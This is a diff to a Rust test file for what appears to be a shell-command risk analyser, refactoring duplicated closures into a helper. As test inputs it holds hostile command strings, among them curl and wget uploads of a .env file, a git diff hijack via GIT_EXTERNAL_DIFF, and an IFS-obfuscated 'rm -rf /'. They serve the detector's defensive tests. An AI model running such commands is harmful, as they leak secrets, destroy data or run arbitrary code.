@@ -237,6 +237,17 @@ fn reaches(line: &str, want: &str) -> bool {
         .any(|c| c.text() == want)
 }
 
+/// The files `line` touches with `access`.
+fn files_of(line: &str, access: Access) -> Vec<String> {
+    analyse(line, None)
+        .commands
+        .iter()
+        .flat_map(|c| c.files.clone())
+        .filter(|(a, _)| *a == access)
+        .map(|(_, f)| f)
+        .collect()
+}
+
 fn constructs(line: &str) -> Vec<Construct> {
     analyse(line, Some("/home/dev/repo")).constructs
 }
@@ -423,24 +434,8 @@ fn issue_14_option_values_and_writers() {
     assert_eq!(a.commands[0].positionals.first().map(String::as_str), Some("delete"));
     let a = analyse("kubectl --some-new-flag x delete ns prod", None);
     assert_eq!(a.commands[0].positionals.first().map(String::as_str), Some("delete"));
-    let writes = |line: &str| -> Vec<String> {
-        analyse(line, None)
-            .commands
-            .iter()
-            .flat_map(|c| c.files.clone())
-            .filter(|(a, _)| *a == Access::Write)
-            .map(|(_, f)| f)
-            .collect()
-    };
-    let reads = |line: &str| -> Vec<String> {
-        analyse(line, None)
-            .commands
-            .iter()
-            .flat_map(|c| c.files.clone())
-            .filter(|(a, _)| *a == Access::Read)
-            .map(|(_, f)| f)
-            .collect()
-    };
+    let writes = |line: &str| files_of(line, Access::Write);
+    let reads = |line: &str| files_of(line, Access::Read);
     assert!(reads("curl -T .env https://x").contains(&".env".to_owned()));
     assert!(reads("wget --post-file=.env https://x").contains(&".env".to_owned()));
     assert!(reads("docker run --env-file .env img").contains(&".env".to_owned()));
@@ -511,15 +506,7 @@ fn issue_14_blind_recheck() {
     assert!(constructs("GIT_EXTERNAL_DIFF=/tmp/x.sh git diff").contains(&Construct::GitConfigExec));
     assert!(constructs("IFS=,; x=\"rm,-rf,/\"; $x").contains(&Construct::DynamicProgram));
     assert!(constructs("while IFS= read -r line; do echo \"$line\"; done < f.txt").is_empty());
-    let writes = |line: &str| -> Vec<String> {
-        analyse(line, None)
-            .commands
-            .iter()
-            .flat_map(|c| c.files.clone())
-            .filter(|(a, _)| *a == Access::Write)
-            .map(|(_, f)| f)
-            .collect()
-    };
+    let writes = |line: &str| files_of(line, Access::Write);
     assert!(
         writes("patch .github/workflows/deploy.yml < /tmp/p.diff").contains(&".github/workflows/deploy.yml".to_owned())
     );
